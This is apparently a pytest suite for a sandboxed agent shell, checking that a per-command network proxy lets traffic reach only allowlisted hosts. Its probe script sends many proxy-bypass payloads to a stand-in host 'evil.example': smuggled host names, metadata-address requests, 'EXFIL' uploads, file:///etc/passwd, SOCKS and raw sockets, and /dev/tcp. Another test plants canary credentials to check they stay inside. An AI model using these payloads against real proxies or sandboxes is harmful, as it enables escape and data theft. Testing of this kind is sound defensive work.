# ruff: noqa: E501  # tables read better in few lines
"""The walls around a command's way out, and how it is made."""

import asyncio
import json
import os
import shutil
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest

from lsp_agent.ports.approver import Decision
from lsp_agent.shell import outlet, sandbox
from lsp_agent.shell.sandbox import TIERS, tiers_of
from lsp_agent.web.command_outlet import CommandOutlets
from lsp_agent.web.guard import Guard
from tests.shell.conftest import git, until

pytestmark = pytest.mark.skipif(
    sys.platform != "linux" or shutil.which("bwrap") is None or shutil.which("curl") is None,
    reason="needs bwrap and curl",
)

# ------------------------------------------------------------------------------------------------------------- the walls


ESCAPES = """
import json, os, socket, sys
site, evil, abstract, unix, udp = json.loads(sys.argv[1])
PROXY = ("127.0.0.1", 28117)
got = {}

def talk(data, *, more=b""):
    with socket.create_connection(PROXY, 5) as connection:
        connection.sendall(data)
        answer = connection.recv(4096)
        if more and answer.startswith(b"HTTP/1.1 200"):
            connection.sendall(more)
        return answer

def probe(name, action):
    try:
        got[name] = bool(action())
    except Exception:
        got[name] = False

def connects(data):
    return lambda: b" 200 " in talk(data, more=b"EXFIL" * 100).split(b"\\r\\n")[0]

for host in ("evil.example", "xsite.example", "site.example.evil.example", "evil.example#@site.example", "site.example@evil.example", "EVIL.example",
             "evil.example.", "127.0.0.1", "[::1]", "[::ffff:127.0.0.1]", "0", "2130706433", "0x7f.1", "localhost", "site.example%00.evil.example",
             "site.example\\\\.evil.example", "*.example", "", ".", "site..example", "a" * 300, "xn--", "-", "169.254.169.254", "10.0.0.1", "192.168.0.1"):
    for port in (evil, 80, 443, 22, site):
        if (host, port) != ("site.example", site):
            probe(f"connect {host[:40]!r} {port}", connects(f"CONNECT {host}:{port} HTTP/1.1\\r\\n\\r\\n".encode()))
for name, data in {
    "nul": b"CONNECT site.example\\0.evil.example:443 HTTP/1.1\\r\\n\\r\\n",
    "tab": b"CONNECT evil.example:%d\\tHTTP/1.1\\r\\n\\r\\n" % evil,
    "bare newline": b"CONNECT site.example:%d\\nX: y HTTP/1.1\\r\\n\\r\\n" % evil,
    "escape": b"CONNECT \\x1b[2Jevil.example:%d HTTP/1.1\\r\\n\\r\\n" % evil,
    "high bytes": b"CONNECT \\xff\\xfeevil.example:%d HTTP/1.1\\r\\n\\r\\n" % evil,
    "host field": b"CONNECT evil.example:%d HTTP/1.1\\r\\nHost: site.example\\r\\n\\r\\n" % evil,
    "plain get": b"GET http://evil.example:%d/?x=EXFIL HTTP/1.1\\r\\nHost: site.example\\r\\n\\r\\n" % evil,
    "plain post": b"POST http://evil.example:%d/ HTTP/1.1\\r\\nContent-Length: 5\\r\\n\\r\\nEXFIL" % evil,
    "user info": b"GET http://site.example@evil.example:%d/ HTTP/1.1\\r\\n\\r\\n" % evil,
    "backslash": b"GET http://site.example\\\\@evil.example:%d/ HTTP/1.1\\r\\n\\r\\n" % evil,
    "folded": b"GET http://evil.example:%d/ HTTP/1.1\\r\\n folded: x\\r\\n\\r\\n" % evil,
    "file": b"GET file:///etc/passwd HTTP/1.1\\r\\n\\r\\n",
    "ftp": b"GET ftp://evil.example:%d/ HTTP/1.1\\r\\n\\r\\n" % evil,
    "https": b"GET https://evil.example:%d/ HTTP/1.1\\r\\n\\r\\n" % evil,
    "origin form": b"GET / HTTP/1.1\\r\\nHost: evil.example:%d\\r\\n\\r\\n" % evil,
    "http 2": b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n",
    "trace": b"TRACE http://evil.example:%d/ HTTP/1.1\\r\\n\\r\\n" % evil,
}.items():
    probe(name, lambda data=data: b" 200 " in talk(data).split(b"\\r\\n")[0])
probe("socks 5", lambda: talk(b"\\x05\\x01\\x00").startswith(b"\\x05"))
probe("socks 4", lambda: talk(b"\\x04\\x01" + evil.to_bytes(2, "big") + b"\\x7f\\0\\0\\x01\\0\\r\\n\\r\\n").startswith(b"\\0"))
probe("direct", lambda: socket.create_connection(("127.0.0.1", evil), 2))
probe("direct granted", lambda: socket.create_connection(("127.0.0.1", site), 2))
probe("public", lambda: socket.create_connection(("1.1.1.1", 443), 1))
probe("dns", lambda: socket.getaddrinfo("site.example", 443))
probe("udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"EXFIL", ("127.0.0.1", udp)) and False)
probe("udp public", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"EXFIL", ("9.9.9.9", 53)))
probe("unix", lambda: socket.socket(socket.AF_UNIX).connect(unix) is None)
probe("abstract", lambda: socket.socket(socket.AF_UNIX).connect("\\0" + abstract) is None)
probe("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
probe("netlink", lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0))
def sockets_left():
    for name in os.listdir("/proc/self/fd"):
        try:
            if os.readlink(f"/proc/self/fd/{name}").startswith("socket:"):
                return True
        except OSError:
            pass
probe("inherited socket", sockets_left)
probe("granted works", connects(b"CONNECT site.example:%d HTTP/1.1\\r\\n\\r\\n" % site))
print("PROBES " + json.dumps(got))
"""


async def test_EX_10_EX_08_nothing_gets_out_around_the_outlet_or_through_it(make_net, tmp_path):
    net = await make_net(domains=("site.example",), asks=False)
    with (
        socket.socket(socket.AF_UNIX) as unix,
        socket.socket(socket.AF_UNIX) as abstract,
        socket.socket(type=socket.SOCK_DGRAM) as udp,
    ):
        unix.bind(str(net.shell.root / "u.sock"))
        abstract.bind(f"\0probe-{os.getpid()}")
        for listener in (unix, abstract):
            listener.listen()
        udp.bind(("127.0.0.1", 0))
        udp.setblocking(False)
        words = [
            net.site.port,
            net.evil.port,
            f"probe-{os.getpid()}",
            str(net.shell.root / "u.sock"),
            udp.getsockname()[1],
        ]
        net.shell.world.file("escapes.py", ESCAPES)
        result = await net.run(f"/usr/bin/python3 -I escapes.py '{json.dumps(words)}'")
        with pytest.raises(BlockingIOError):
            udp.recv(10)
    line = next((line for line in result.content.splitlines() if line.startswith("PROBES ")), None)
    assert line is not None, result.content
    got = json.loads(line.removeprefix("PROBES "))
    assert got.pop("granted works")
    out = sorted(name for name, escaped in got.items() if escaped)
    print(f"\nways round the outlet: {len(out)} of {len(got)} (bubblewrap, uid {os.geteuid()})")
    assert len(got) >= 120
    assert out == []
    assert net.evil.connections == 0
    assert set(net.names.asked) == {"site.example"}


async def test_EX_02_names_are_not_resolved_inside(make_net):
    net = await make_net(domains=("site.example",))
    result = await net.run(
        "getent hosts site.example || echo no such name; getent ahosts secret.evil.example || echo no such name"
    )
    assert result.content.count("no such name") == 2
    assert net.names.asked == []


async def test_EX_09_no_credentials_of_the_user_go_along(make_net):
    net = await make_net(domains=("site.example",))
    (net.shell.home / ".netrc").write_text("machine site.example login user password sk-canary\n")
    (net.shell.home / ".git-credentials").write_text(f"http://user:sk-canary@site.example:{net.site.port}\n")
    (net.shell.home / ".gitconfig").write_text("[credential]\n  helper = store\n")
    await net.run(f"curl -sS --netrc {net.url}; git ls-remote {net.url}repo.git; env > seen; cat ~/.netrc >> seen")
    assert net.site.heard
    assert not [heard for heard in net.site.heard if "authorization" in heard.headers or "sk-canary" in str(heard)]
    assert "canary" not in (net.shell.root / "seen").read_text()


async def test_every_command_has_an_outlet_of_its_own_that_ends_with_it(make_net):
    async def hold(heard, writer):
        await heard.reader.read()

    net = await make_net(domains=("site.example",))
    net.site.routes["/hold"] = hold
    tasks = [net.start(f"curl -sS {net.url}hold", run_in_background=True) for _ in range(2)]
    ids = [(await task).metadata["shell_id"] for task in tasks]
    jobs = [net.shell.jobs.get("s1", job_id) for job_id in ids]
    await until(lambda: net.site.connections == 2)
    first, second = [job._outlet.proxy for job in jobs]
    assert first is not second
    assert [first.traffic.opened, second.traffic.opened] == [1, 1]
    await net.shell.jobs.stop(jobs[0])
    await until(lambda: net.site.closed == 1)
    assert (first._server, first._tunnels) == (None, set())
    assert second._tunnels
    await net.shell.jobs.close()
    await until(lambda: net.site.closed == 2)
    assert second._server is None


@pytest.mark.parametrize(
    ("tiers", "domains", "asks"), [(("landlock", "none"), ("site.example",), True), (("bubblewrap", "none"), (), False)]
)
async def test_elsewhere_there_is_no_network_and_no_proxy_in_the_environment(make_net, tiers, domains, asks):
    net = await make_net(domains=domains, asks=asks, tiers=tiers)
    net.shell.world.approver = Everything()
    result = await net.run(f"env | grep -ic proxy; curl -sS {net.url}; exec 3<>/dev/tcp/127.0.0.1/{net.site.port}")
    assert result.content.startswith("0\n")
    assert net.site.connections == 0


class Everything:
    async def ask(self, run, tool_call_id, mode, ask):
        return Decision(True)


async def test_what_only_reads_has_no_way_out(make_net):
    net = await make_net(domains=("site.example",))
    for reading in (True, False):
        confined = await net.shell.sandbox.confine("true", cwd=net.shell.root, reading=reading, outlet=True)
        await net.shell.sandbox.release(confined)
        assert (confined.order.outlet_at is None) is reading
        assert ("HTTPS_PROXY" in confined.order.env) is not reading
    await net.shell.run("ls")
    [job] = net.shell.jobs._jobs.values()
    assert job._outlet is None


# --------------------------------------------------------------------------------------------------------------- pieces


def test_the_setting_chooses_the_tiers():
    assert tiers_of("auto") == TIERS
    assert tiers_of("bubblewrap") == ("bubblewrap", "none")
    assert tiers_of("landlock") == ("landlock", "none")
    assert tiers_of("none") == ("none",)


async def test_only_a_listening_socket_of_loopback_is_taken():
    with (
        socket.create_server(("127.0.0.1", 0)) as good,
        socket.create_server(("0.0.0.0", 0)) as wide,
        socket.socket() as idle,
    ):
        read, write = os.pipe()
        cases = [([good], True), ([wide], False), ([idle], False), ([read], False), ([good, good], False), ([], False)]
        before = len(list(Path("/proc/self/fd").iterdir()))
        for sent, wanted in cases:
            ours, theirs = socket.socketpair()
            socket.send_fds(theirs, [b"."], [one if isinstance(one, int) else one.fileno() for one in sent])
            async with asyncio.timeout(5):
                taken = await outlet.receive_listener(ours)
            assert (taken is not None) is wanted, sent
            if taken is not None:
                assert taken.getsockname() == good.getsockname()
                taken.close()
            theirs.close()
        assert len(list(Path("/proc/self/fd").iterdir())) == before
        os.close(read)
        os.close(write)


def test_without_a_socket_the_command_runs_without_a_proxy():
    line = outlet.launcher(sys.executable, ["/usr/bin/env"])
    env = {"A": "b", **outlet.PROXY_ENVIRONMENT}
    done = subprocess.run(line, env=env, capture_output=True, text=True, timeout=10)
    assert done.returncode == 0
    assert "A=b" in done.stdout
    assert "PROXY" not in done.stdout.upper()


async def test_what_an_outlet_costs(make_net):
    net = await make_net(domains=("site.example",))
    took = {}
    for name, outlets in {"with": net.shell.jobs._outlets, "without": None}.items():
        net.shell.jobs._outlets = outlets
        await net.run(":")
        times = []
        for _ in range(7):
            started = time.monotonic()
            await net.run(":")
            times.append(time.monotonic() - started)
        took[name] = sorted(times)[3] * 1000
    print(f"\na command with an outlet {took['with']:.0f} ms, without {took['without']:.0f} ms (median of 7)")
    assert took["with"] < took["without"] + 500


async def test_a_cancel_before_the_start_leaves_no_placeholder(make_net, monkeypatch):
    net = await make_net(domains=("site.example",))
    git(net.shell.root, "init", "-q")
    shutil.rmtree(net.shell.root / ".git" / "hooks")
    tried = asyncio.Event()

    async def never(spawner, order):
        tried.set()
        await asyncio.Event().wait()

    monkeypatch.setattr(sandbox, "opens", never)
    task = asyncio.create_task(net.shell.sandbox.confine("true", cwd=net.shell.root, reading=False, outlet=True))
    async with asyncio.timeout(10):
        await tried.wait()
    assert (net.shell.root / ".git" / "hooks").is_file()
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    assert not (net.shell.root / ".git" / "hooks").exists()


async def test_a_machine_where_it_does_not_open_runs_commands_without(make_net, monkeypatch):
    async def closed(spawner, order):
        return False

    monkeypatch.setattr(sandbox, "opens", closed)
    net = await make_net(domains=("site.example",))
    result = await net.run(f"env | grep -ic proxy; curl -sS {net.url} || true")
    assert result.content.startswith("0\n")
    assert "no way out" in net.shell.sandbox.describe()
    assert net.site.connections == 0


async def test_a_question_that_fails_grants_nothing():
    class Broken:
        def granted(self, host):
            return False

        async def ask(self, host):
            raise RuntimeError("the approver is broken")

    made = CommandOutlets(Guard(), domains=lambda: ["no host name!", "a.example"]).open(Broken(), lambda line: None)
    assert await made._ask("site.example") is False
    assert (made._allows("site.example"), made._allows("a.example"), made.asking) == (False, True, False)
    await made.close()
    await made.close()
